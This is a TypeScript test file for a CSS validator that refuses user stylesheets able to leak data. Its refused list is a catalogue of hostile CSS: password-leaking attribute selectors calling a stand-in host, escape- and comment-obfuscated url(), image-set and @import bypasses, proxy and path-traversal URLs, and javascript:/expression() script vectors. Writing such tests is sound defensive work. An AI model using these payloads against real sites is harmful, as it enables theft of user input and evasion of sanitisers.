import { expect, it, test } from 'vitest'
import { cpuTime } from '#test/cpu-time.ts'
import { cssProblem } from './validate-css.ts'

const FILE = '/media/0123456789abcdef/a.png'
const E = 'e.example'

const REFUSED = [
  // The attack: leaking input character by character.
  `input[type=password][value$="x"] { background: url(https://${E}/x) }`,
  `a { background: url(https://${E}) }`,
  `a { background: url("https://${E}/") }`,
  `a { background: url( 'http://${E}/' ) }`,
  `a { background: URL(//${E}/) }`,
  `a { background: url(/\\/${E}/) }`,
  `a { background: url("/\\\\${E}/") }`,
  `a { background: url(https:${E}) }`,
  `a { background: url("\\68 ttps://${E}/") }`,
  `a { background: \\75 rl(https://${E}/) }`,
  `a { background: u\\72l(https://${E}/) }`,
  `a { background: ur\\00006c(https://${E}/) }`,
  `a { background: url(ht\ntps://${E}/) }`,
  `a { background: url("ht\\\ntps://${E}/") }`,
  `a { background: url("\\9https://${E}/") }`,
  `a { background: url(/**/https://${E}/) }`,
  `a { background: url(https://${E}/`,
  `a { background: url("https://${E}/`,
  `/* "*/ a { background: url(https://${E}/) } /* " */`,
  `a { content: "/*"; background: url(https://${E}/); quotes: "*/" }`,
  `a { content: "\n"; background: url(https://${E}/) }`,
  `a { b: url(x"y) } a { background: url(https://${E}/) }`,
  `a { background: image-set("https://${E}/" 1x) }`,
  `a { background: -webkit-image-set("//${E}/" 1x) }`,
  `a { background: image-set( ( "https://${E}/" ) 1x) }`,
  `a { background: im\\61ge-set("https://${E}/" 1x) }`,
  `a { background: image-set(url(https://${E}/) 1x) }`,
  `a { background: cross-fade("https://${E}/", red) }`,
  `a { background: image("https://${E}/") }`,
  `a { background: src("https://${E}/") }`,
  `a { background: src(var(--x)) }`,
  `:root { --x: "https://${E}/" } a { background: image-set(var(--x) 1x) }`,
  `:root { --x: "https:${E}" } a { background: image-set(var(--x) 1x) }`,
  `:root { --x: url(//${E}/) } a { background: var(--x) }`,
  // Paths of this site that fetch a URL from their query.
  `:root { --x: "/media/remote?url=https%3A%2F%2F${E}" } a { background: image-set(var(--x) 1x) }`,
  `a { background: image-set(v\\61r(--x, "/media/remote?url=https%3A%2F%2F${E}") 1x) }`,
  `a { background: image-set(if(else: "media/remote?url=https%3A%2F%2F${E}") 1x) }`,
  `@function --f() { result: "/media/remote?url=https%3A%2F%2F${E}" } a { background: image-set(--f() 1x) }`,
  'a { background: image-set(attr(href raw-string) 1x) }',
  'a { background: image-set(attr(href type(*)) 1x) }',
  'a { background: cross-fade(env(x), red) }',
  `@font-face { font-family: x; src: url(https://${E}/x.woff2); unicode-range: U+0041 }`,
  `@import "https://${E}/x.css";`,
  `@import url(https://${E}/x.css);`,
  `@\\69mport "${FILE}";`,
  `@\\69 mport "x"`,
  `@import/**/"x"`,
  `@namespace x "https://${E}/";`,
  `a { cursor: url(https://${E}/), auto }`,
  `a { filter: url(https://${E}/#x) }`,
  `@document url(https://${E}/) { a { color: red } }`,
  // Local, but able to load from elsewhere or to run something.
  `a { background: url(/media/remote?url=https%3A%2F%2F${E}) }`,
  `a { background: url(${FILE}?x) }`,
  `a { background: url(/api/v2/feeds/oembed?url=https://${E}) }`,
  'a { background: url(/media/0123456789abcdef/../../api/v2) }',
  'a { background: url(a.png) }',
  'a { background: url() }',
  'a { background: url(data:text/html,x) }',
  'a { background: url(javascript:alert(1)) }',
  'a { background: url(blob:x) }',
  'a { width: expression(alert(1)) }',
  'a { behavior: url(#x) }',
  'a{}</style><script>',
]

test.each(REFUSED)('refused: %s', (css) => {
  expect(cssProblem(css)).toEqual(expect.any(String))
  expect(cssProblem(css.replaceAll(' ', '\t').replaceAll('\n', '\r\n'))).toEqual(expect.any(String))
})

test.each([
  '',
  'a { color: red }',
  `a { background: url(${FILE}) }`,
  `a { background: url("${FILE}") }`,
  `a { background: url( ${FILE} ) no-repeat }`,
  `a { background: url(/media/0123456789abcdef/thumbnail/a.webp) }`,
  `a { background: url(/community${FILE}) }`,
  `a { background: image-set("${FILE}" type("image/png") 1x, url(${FILE}) 2x) }`,
  'a { background: image-set(linear-gradient(rgb(0 0 0), oklch(from red l c h)) 1x); color: var(--x) }',
  'a { background: url("data:image/svg+xml,%3Csvg/%3E") }',
  'a { background: url(data:image/png;base64,AAAA) }',
  'a { mask: url(#shape) }',
  'a[href^="https://"]::after { content: "\\2197" }',
  '@media (width < 600px) and (prefers-color-scheme: dark) { a { color: rgb(1 2 3 / 50%) } }',
  '@layer x { @supports (display: grid) { a:is(.b, .c) { width: calc(1em * 2e3) } } }',
  ':root { --gap: 4px; --Font: "Inter", sans-serif } a { margin: -1px; margin: -var(--gap) }',
  '#url { color: red } /* url(https://e.example) and @import too */',
])('accepted: %s', (css) => expect(cssProblem(css)).toBeNull())

it('reads a long sheet in linear time', () => {
  for (const part of ['url(', '"', '\\', '/*', '((((', '@', 'a{b:"x"}', 'url( ', "'\\\n"]) {
    const started = cpuTime()
    cssProblem(part.repeat(50_000 / part.length))
    expect(cpuTime() - started).toBeLessThan(500)
  }
})
